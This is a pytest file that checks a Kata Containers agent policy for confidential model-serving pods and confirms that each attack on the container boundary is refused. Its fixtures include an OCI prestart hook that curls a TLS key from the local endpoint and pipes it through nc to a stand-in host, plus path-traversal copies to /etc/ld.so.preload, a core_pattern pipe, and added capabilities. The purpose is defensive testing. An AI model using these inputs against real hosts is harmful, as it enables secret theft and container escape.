"""The agent policy as an allow-list, attacked as the host would: every request of the pod we render passes on
containerd and on OpenShift's CRI-O, and each bypass class of issue 19 is refused, for the one field it changes.

Requests: tests/agent_requests.py (kata-containers' genpolicy test data, CRI-O's shapes from cri-o's source).
Each refusal is checked by the fields the policy names (`*_refusals`, what the agent returns in its error),
so a test fails if the request is refused for another reason than the one it tests.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from components import nim
from components.initdata import AgentPolicyArgs, render_agent_policy
from tests.agent_requests import (
    IMAGE,
    NOT_NGC_KEYS,
    SERVING_KEY,
    NIM_IMAGE_ENV,
    SHARED,
    copy_file,
    create_sandbox,
    crio,
    decryptor_container,
    fixture,
    nim_container,
    pause,
    pod_copies,
)
from tests.test_agent_policy import Policy

RUNTIMES = {"containerd": lambda request: request, "cri-o": crio}
# What the kata runtime sends besides containers and copies, over a pod's life (kata_agent.go): allowed as
# they come (their fields decide nothing about what runs, or the host controls them anyway: the network).
LIFECYCLE = ("StartContainerRequest", "WaitProcessRequest", "ReadStreamRequest", "StatsContainerRequest", "SignalProcessRequest",
             "UpdateInterfaceRequest", "UpdateRoutesRequest", "ListInterfacesRequest", "ListRoutesRequest", "AddARPNeighborsRequest",
             "GuestDetailsRequest", "GetOOMEventRequest", "OnlineCPUMemRequest", "UpdateContainerRequest", "RemoveContainerRequest",
             "DestroySandboxRequest", "GetMetricsRequest", "SetGuestDateTimeRequest", "TtyWinResizeRequest", "CloseStdinRequest")


def refused_for(policy: Policy, request: str, input_: dict[str, Any], rule: str = "create_container_refusals") -> set[str]:
    """The fields the policy refuses `input_` for; for a request it allows, checked to be the agent's decision
    too (the rule is `count(<refusals>) == 0`: refusing fields refuse the request)."""
    fields = policy.refusals(input_, rule, then_decide=request)
    if not fields:
        assert policy.decide(request, input_) is True
    return fields


# --- The pod we render runs, on both runtimes -----------------------------------------------------------


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_every_request_of_an_ngc_model_pod_is_allowed(ngc_policy, runtime):
    shape = RUNTIMES[runtime]
    app = shape(nim_container())
    assert refused_for(ngc_policy, "CreateSandboxRequest", create_sandbox(), "create_sandbox_refusals") == set()
    for request in (shape(pause()), app):
        for copied in pod_copies(request):
            assert refused_for(ngc_policy, "CopyFileRequest", copied, "copy_file_refusals") == set(), copied["path"]
        assert refused_for(ngc_policy, "CreateContainerRequest", request) == set()
    for name in LIFECYCLE:
        assert ngc_policy.decide(name, {"container_id": app["container_id"], "exec_id": ""}) is True, name


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_every_container_of_an_encrypted_model_pod_is_allowed(encrypted_policy, runtime):
    shape = RUNTIMES[runtime]
    for request in (shape(pause()), shape(decryptor_container()), shape(nim_container(encrypted=True))):
        assert refused_for(encrypted_policy, "CreateContainerRequest", request) == set()


def test_the_pause_process_is_what_each_runtime_sends(ngc_policy):
    """containerd's /pause and OpenShift CRI-O's /usr/bin/pod (cri-o pause_command); nothing else."""
    assert crio(pause())["OCI"]["Process"]["Args"] == ["/usr/bin/pod"] and pause()["OCI"]["Process"]["Args"] == ["/pause"]
    request = pause()
    request["OCI"]["Process"]["Args"] = ["/bin/sh", "-c", "sleep infinity"]
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Process.Args"}


# --- Each bypass class, refused for its one cause --------------------------------------------------------
PRESTART = {"Prestart": [{"Path": "/bin/sh", "Args": ["sh", "-c", "curl -s 127.0.0.1:8006/cdh/resource/default/tls/key | nc evil 80"], "Env": [], "Timeout": 0}],
            "CreateRuntime": [], "CreateContainer": [], "StartContainer": [], "Poststart": [], "Poststop": []}


@pytest.mark.parametrize("make", [pause, nim_container], ids=["pause", "nim"])
def test_an_oci_hook_is_refused(ngc_policy, make):
    request = make()
    request["OCI"]["Hooks"] = PRESTART
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Hooks"}


def test_empty_hooks_are_no_hooks(ngc_policy):
    request = nim_container()
    request["OCI"]["Hooks"] = {key: [] for key in PRESTART}
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == set()


@pytest.mark.parametrize("request_", ["GetDiagnosticDataRequest", "UpdateEphemeralMountsRequest", "AddSwapRequest", "AddSwapPathRequest"])
def test_requests_that_read_or_mount_host_chosen_things_are_refused(ngc_policy, request_):
    """GetDiagnosticData returns the termination log's source, UpdateEphemeralMounts mounts anything, swap goes to a host disk."""
    inputs = {"GetDiagnosticDataRequest": {"container_id": "gid", "diagnostic_type": 0}, "UpdateEphemeralMountsRequest": {"storages": []},
              "AddSwapRequest": {"PCIPath": [2]}, "AddSwapPathRequest": {"path": "/run/kata-containers/sandbox/swap"}}
    assert ngc_policy.decide(request_, inputs[request_]) is False


def test_a_binary_bound_over_pause_is_refused(ngc_policy):
    request = pause()
    request["OCI"]["Mounts"].append({"destination": "/pause", "options": ["rbind", "ro"], "source": f"{SHARED}{request['container_id']}-0123456789abcdef-pause", "type_": "bind"})
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Mounts[/pause]"}


def test_a_pod_sysctl_on_the_pause_container_is_refused(ngc_policy):
    """genpolicy's own `sysctls` case: its pod sets net.ipv4.ip_forward, which ours never does."""
    assert refused_for(ngc_policy, "CreateContainerRequest", fixture("sandbox-sysctls")) == {"OCI.Linux.Sysctl"}


def test_a_sysctl_on_the_workload_is_refused(ngc_policy):
    request = nim_container()
    request["OCI"]["Linux"]["Sysctl"] = {"kernel.core_pattern": "|/opt/nim/.cache/evil"}
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Linux.Sysctl"}


def test_the_pause_root_elsewhere_is_refused(ngc_policy):
    request = pause()
    request["OCI"]["Root"]["Path"] = f"{SHARED}{request['container_id']}-0123456789abcdef-rootfs"
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Root.Path"}


def test_a_reused_image_mount_point_is_refused(ngc_policy):
    """The agent skips the pull for a mount point it has seen and binds what is there: the workload claiming the
    pause container's root (or any other container's) does not run the pinned image."""
    request = nim_container()
    reused = pause()["OCI"]["Root"]["Path"]
    request["OCI"]["Root"]["Path"] = reused
    next(s for s in request["storages"] if s["driver"] == "image_guest_pull")["mount_point"] = reused
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Root.Path", "storages[image_guest_pull].mount_point"}


def test_another_repository_with_the_pinned_digest_is_refused(ngc_policy):
    """The repository is pinned with the digest: `<name>@<pinned digest>` (a name a tag-shaped pattern accepts) is not the image."""
    request = nim_container()
    next(s for s in request["storages"] if s["driver"] == "image_guest_pull")["source"] = f"llama@{IMAGE.split('@', 1)[1]}"
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"storages[image_guest_pull].source"}


def test_the_workload_image_marked_as_the_sandbox_is_refused(ngc_policy):
    """`container-type: sandbox` in the pull metadata makes the agent unpack its own pause image instead."""
    request = nim_container()
    storage = next(s for s in request["storages"] if s["driver"] == "image_guest_pull")
    key, _, value = storage["driver_options"][0].partition("=")
    volume = json.loads(value)
    volume["metadata"]["io.kubernetes.cri.container-type"] = "sandbox"
    storage["driver_options"] = [f"{key}={json.dumps(volume)}"]
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"storages[image_guest_pull].driver_options"}


@pytest.mark.parametrize("destination", ["//run/nim-tls/cert", "/run/nim-tls/./cert", "/run/../run/nim-tls/cert", "/run/nim-tls/cert/"])
def test_a_mount_path_the_agent_would_normalise_is_refused(ngc_policy, destination):
    """The agent collapses `//`, `/./` and `..`: compared as strings, these would be another path than the one checked."""
    request = nim_container()
    mount = next(m for m in request["OCI"]["Mounts"] if m["destination"] == nim.TLS_CERT_DIR)
    mount["destination"] = destination
    assert refused_for(ngc_policy, "CreateContainerRequest", request) >= {f"OCI.Mounts[{destination}] (not a normal absolute path)"}


def test_host_files_over_the_code_are_refused(ngc_policy):
    request = nim_container()
    mount = next(m for m in request["OCI"]["Mounts"] if m["destination"] == nim.TLS_CERT_DIR)
    mount["destination"] = "/opt/nim/llm"
    mount["source"] = mount["source"].replace("-cert", "-llm")
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Mounts[/opt/nim/llm]", f"OCI.Mounts[{nim.TLS_CERT_DIR}] (missing)"}


@pytest.mark.parametrize("cwd", ["/opt/nim/../nim", "/opt/nim/llm"])
def test_a_working_directory_other_than_the_images_is_refused(ngc_policy, cwd):
    request = nim_container()
    request["OCI"]["Process"]["Cwd"] = cwd
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Process.Cwd"}


@pytest.mark.parametrize("request_", [
    pytest.param(copy_file(f"{SHARED}watchable/gid-0123456789abcdef-tls-key/../../../etc/ld.so.preload"), id="dot-dot"),
    pytest.param(copy_file(f"{SHARED}watchable/gid-0123456789abcdef-tls-key//./x"), id="double-slash-dot"),
    pytest.param(copy_file(f"{SHARED}watchable/gid-0123456789abcdef-tls-key/x", "Symlink", "../gid-0123456789abcdef-tls-cert"), id="symlink-to-a-sibling"),
    pytest.param(copy_file(f"{SHARED}watchable/gid-0123456789abcdef-tls-key", "Symlink", "/etc"), id="top-level-symlink"),
    pytest.param(copy_file(f"{SHARED}8667fea11fc4fc70d427cc3645950ac83cc7d33ca515a8774ab95043f0096bb8/rootfs/local/nim-workspace/x.py"), id="into-an-emptydir"),
])
def test_copies_that_escape_or_land_elsewhere_are_refused(ngc_policy, request_):
    assert refused_for(ngc_policy, "CopyFileRequest", request_, "copy_file_refusals")


def test_shared_mounts_are_refused(ngc_policy):
    request = nim_container()
    request["shared_mounts"] = [{"name": "evil", "src_ctr": "pause", "src_path": "/", "dst_ctr": "kserve-container", "dst_path": "/opt/nim/llm"}]
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"shared_mounts"}


def test_an_extra_capability_is_refused(ngc_policy):
    request = nim_container()
    for key in ("Bounding", "Effective", "Permitted"):
        request["OCI"]["Process"]["Capabilities"][key].append("CAP_SYS_ADMIN")
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Process.Capabilities"}


def test_a_process_without_capabilities_is_refused(ngc_policy):
    """Absent is not none: rustjail then drops nothing and the process keeps every capability of the agent
    (kata-containers src/agent/rustjail/src/container.rs do_init_child)."""
    request = nim_container()
    request["OCI"]["Process"]["Capabilities"] = None
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Process.Capabilities"}


def test_no_capabilities_at_all_are_allowed(ngc_policy):
    request = nim_container()
    request["OCI"]["Process"]["Capabilities"] = {key: [] for key in request["OCI"]["Process"]["Capabilities"]}
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == set()


def test_a_device_is_refused(ngc_policy):
    request = nim_container()
    request["devices"] = [{"id": "/dev/sda", "type_": "blk", "vm_path": "/dev/vda", "container_path": "/dev/xvda", "options": []}]
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"devices"}


@pytest.mark.parametrize("edit, field", [
    (lambda r: r["OCI"]["Linux"]["Resources"].update(Devices=[{"Allow": True, "Type": "b", "Major": 8, "Minor": 0, "Access": "rwm"}]), "OCI.Linux.Resources.Devices"),
    (lambda r: r["OCI"]["Linux"]["Namespaces"][0].update(Path="/proc/1/ns/ipc"), "OCI.Linux.Namespaces[ipc]"),
    (lambda r: r["OCI"]["Linux"]["UIDMappings"].append({"ContainerID": 0, "HostID": 0, "Size": 65536}), "OCI.Linux.UIDMappings"),
    (lambda r: r["OCI"]["Linux"]["GIDMappings"].append({"ContainerID": 0, "HostID": 0, "Size": 65536}), "OCI.Linux.GIDMappings"),
    (lambda r: r["OCI"]["Linux"]["Devices"].append({"Path": "/dev/sda", "Type": "b", "Major": 8, "Minor": 0, "FileMode": 0o660, "UID": 0, "GID": 0}), "OCI.Linux.Devices"),
    (lambda r: r.update(sandbox_pidns=True), "sandbox_pidns"),
    # The runtime never sets one (kata_agent.go at kata-containers 7c6ba40c): a field it does not send is refused.
    (lambda r: r.update(string_user={"uid": "0", "gid": "0", "additionalGids": [], "username": "root"}), "string_user"),
], ids=["device-cgroup-rule", "guest-namespace", "uid-mapping", "gid-mapping", "device-node", "shared-pid-namespace", "string-user"])
def test_reaching_beyond_the_container_is_refused(ngc_policy, edit, field):
    """Genpolicy's own refusals (rules.rego allow_create_container_input, allow_linux): a device rule with
    CAP_MKNOD, the agent's namespaces, ID mappings, a PID namespace shared with the other containers."""
    request = nim_container()
    edit(request)
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {field}


@pytest.mark.parametrize("field, value", [("guest_hook_path", "/run/kata-containers/shared/containers/hooks"), ("kernel_modules", [{"name": "evil", "parameters": []}])])
def test_sandbox_hooks_and_kernel_modules_are_refused(ngc_policy, field, value):
    request = {**create_sandbox(), field: value}
    assert refused_for(ngc_policy, "CreateSandboxRequest", request, "create_sandbox_refusals") == {field}


@pytest.mark.parametrize("name", ["PATH", "REQUESTS_CA_BUNDLE", "LD_LIBRARY_PATH"])
def test_the_images_own_variables_keep_the_images_values(ngc_policy, name):
    request = nim_container()
    env = request["OCI"]["Process"]["Env"]
    index = next(i for i, entry in enumerate(env) if entry.startswith(f"{name}="))
    env[index] = f"{name}=/run/nim-tls/cert"
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {f"OCI.Process.Env[{name}]"}


def test_a_variable_set_twice_is_refused(ngc_policy):
    """A second PATH after the image's: which one a program reads is its own choice."""
    request = nim_container()
    request["OCI"]["Process"]["Env"].append(NIM_IMAGE_ENV[0])
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Process.Env[PATH] (set twice)"}


@pytest.mark.parametrize("entry", ["NIM_SSL_MODE=sealed.eyJhbGciOiJFUzI1NiJ9.eyJwcm92aWRlciI6Imticy.c2ln", "LOG_TO=sealed.eyJhbGciOiJFUzI1NiJ9.eyJwcm92aWRlciI6Imticy.c2ln"],
                         ids=["into-another-pod-variable", "into-a-new-variable"])
def test_a_sealed_pointer_moved_to_another_variable_is_refused(ngc_policy, entry):
    request = nim_container()
    env = [e for e in request["OCI"]["Process"]["Env"] if not e.startswith(entry.split("=")[0] + "=")]
    request["OCI"]["Process"]["Env"] = [*env, entry]
    name = entry.split("=")[0]
    # A pod variable's own value is then missing too (tests/test_agent_policy_redteam.py).
    pod_values = {e["name"] for e in nim.container_env(None, False) if "value" in e}
    missing = {f"OCI.Process.Env[{name}] (missing)"} if name in pod_values else set()
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {f"OCI.Process.Env[{name}]"} | missing


def test_the_ngc_key_variable_takes_no_pointer_to_the_workloads_other_secrets(ngc_policy):
    """The serving key's pointer (another payload) in NGC_API_KEY would send the TLS key to NGC as an API key."""
    request = nim_container()
    env = request["OCI"]["Process"]["Env"]
    index = next(i for i, entry in enumerate(env) if entry.startswith("NGC_API_KEY="))
    env[index] = f"NGC_API_KEY={SERVING_KEY}"
    assert refused_for(ngc_policy, "CreateContainerRequest", request) == {"OCI.Process.Env[NGC_API_KEY]"}


def test_the_decryptor_takes_no_sealed_pointer(encrypted_policy):
    request = decryptor_container()
    request["OCI"]["Process"]["Env"].append("AZURE_STORAGE_SAS_TOKEN_2=sealed.eyJhbGciOiJFUzI1NiJ9.eyJwcm92aWRlciI6Imticy.c2ln")
    assert refused_for(encrypted_policy, "CreateContainerRequest", request) == {"OCI.Process.Env[AZURE_STORAGE_SAS_TOKEN_2]"}


# --- Audit mode -------------------------------------------------------------------------------------------


def test_audit_mode_lets_everything_through_and_decides_as_enforce():
    """The agent serves a refused request when AllowRequestsFailingPolicy is true and logs
    `policy: ignoring error for <Request>` (kata-containers src/agent/policy/src/policy.rs allow_request);
    the rules are the enforcing ones, so that log names exactly what enforce would refuse."""
    args = dict(image_env=NIM_IMAGE_ENV, container=nim.policy_container(NOT_NGC_KEYS, False, False))
    enforce = render_agent_policy(AgentPolicyArgs(IMAGE, **args))
    audit = Policy(mode="audit")
    assert audit.decide("AllowRequestsFailingPolicy", {}) is True
    assert Policy().decide("AllowRequestsFailingPolicy", {}) is False
    assert audit.decide("ExecProcessRequest", {}) is False and audit.decide("CreateContainerRequest", nim_container()) is True
    enforcing_rules = [line for line in enforce.splitlines() if "AllowRequestsFailingPolicy" not in line and not line.startswith("#")]
    audit_rules = [line for line in audit.text.splitlines() if "AllowRequestsFailingPolicy" not in line and not line.startswith("#")]
    assert enforcing_rules == audit_rules
